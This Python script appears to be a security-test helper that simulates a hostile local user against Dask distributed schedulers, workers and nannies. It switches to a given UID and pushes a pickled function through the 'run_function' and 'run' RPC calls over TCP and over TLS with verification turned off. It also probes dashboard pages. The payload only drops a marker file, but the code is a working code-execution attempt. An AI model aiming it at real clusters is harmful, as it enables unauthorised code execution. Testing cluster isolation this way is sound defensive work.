"""Another user of this machine, who tries to run code through every port that he is told of.

`intruder.py UID FOLDER` prints a line once it runs as UID, takes [[host, port], ...] as a line of JSON, and prints
[[port, path, status], ...] of the web pages that were answered. Where its code runs, a file appears in FOLDER.
"""

from __future__ import annotations

import asyncio
import json
import os
import ssl
import sys
import tempfile
import urllib.error
import urllib.request
from contextlib import suppress
from pathlib import Path
from typing import Any

from distributed import Security
from distributed.core import rpc
from distributed.protocol.pickle import dumps

PATIENCE_S = 10.0  # a worker that imports is deaf for seconds
PAGE_S = 3.0
OPERATIONS = ("run_function", "run")  # of a scheduler; of workers and nannies
PAGES = ("/", "/health", "/status", "/info/main/workers.html", "/json/identity.json", "/metrics")


def leave_a_mark(folder: str) -> None:
    Path(folder, str(os.getpid())).write_text(f"uid {os.getuid()}")


def careless_context(certificate: str = "", key: str = "") -> ssl.SSLContext:
    """Trust everybody; show a certificate of one's own, if any."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if certificate:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder, "both.pem")
            path.write_text(certificate + key)
            context.load_cert_chain(path)
    return context


async def give_work(
    address: str, connection: dict[str, Any], operation: str, folder: str, patience: float
) -> None:
    with suppress(Exception):
        async with rpc(address, connection_args=connection, timeout=patience) as remote:
            arguments = {"function": dumps(leave_a_mark), "args": dumps((folder,)), "kwargs": dumps({})}
            await asyncio.wait_for(getattr(remote, operation)(**arguments, wait=True), patience)


async def attack(
    ports: list[tuple[str, int]], contexts: list[ssl.SSLContext], folder: str, patience: float
) -> None:
    ways: list[tuple[str, dict[str, Any]]] = [("tcp", {})]
    ways += [("tls", {"ssl_context": context}) for context in contexts]
    await asyncio.gather(
        *(
            give_work(f"{scheme}://{host}:{port}", connection, operation, folder, patience)
            for host, port in ports
            for scheme, connection in ways
            for operation in OPERATIONS
        )
    )


def pages(ports: list[tuple[str, int]]) -> list[tuple[int, str, int]]:
    answered = []
    for host, port in ports:
        for path in PAGES:
            try:
                with urllib.request.urlopen(f"http://{host}:{port}{path}", timeout=PAGE_S) as answer:
                    answered.append((port, path, answer.status))
            except urllib.error.HTTPError as error:
                answered.append((port, path, error.code))
            except Exception:  # not a server of web pages
                break
    return answered


def main() -> None:
    uid, folder = int(sys.argv[1]), sys.argv[2]
    own = Security.temporary()
    contexts = [careless_context(), careless_context(own.tls_client_cert, own.tls_client_key)]
    nobody = [("127.0.0.1", 1)]
    asyncio.run(attack(nobody, contexts, folder, 0.2))  # imports what it takes: the other
    pages(nobody)  # user may have no access to the installation
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    print("ready", flush=True)
    ports = [(host, port) for host, port in json.loads(sys.stdin.readline())]
    asyncio.run(attack(ports, contexts, folder, PATIENCE_S))
    print(json.dumps(pages(ports)))


if __name__ == "__main__":
    main()
